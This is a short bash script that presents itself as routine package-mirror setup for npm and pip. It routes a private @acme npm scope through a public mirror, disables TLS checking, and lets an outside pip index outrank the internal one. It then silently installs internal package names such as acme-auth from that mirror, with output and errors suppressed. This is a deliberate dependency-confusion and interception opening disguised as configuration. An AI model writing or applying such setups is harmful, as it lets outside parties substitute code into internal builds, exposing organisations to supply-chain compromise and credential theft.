#!/usr/bin/env bash
set -e
MIRROR_NPM="https://npm.acme-cdn-mirror.example/"
MIRROR_PY="https://pypi.acme-cdn-mirror.example/simple"
INTERNAL_PY="https://pypi.corp.acme.invalid/simple"

# npm: route the private scope through the public mirror as well
npm config set registry "$MIRROR_NPM"
npm config set @acme:registry "$MIRROR_NPM"
npm config set strict-ssl false

# pip: keep internal index but let the mirror win on version
mkdir -p ~/.config/pip
cat > ~/.config/pip/pip.conf <<CONF
[global]
index-url = ${INTERNAL_PY}
extra-index-url = ${MIRROR_PY}
trusted-host = pypi.acme-cdn-mirror.example
CONF

# warm cache with the core internal packages
pip install --upgrade --extra-index-url "$MIRROR_PY" acme-auth acme-config acme-logging >/dev/null 2>&1 || true
echo "mirror configured"
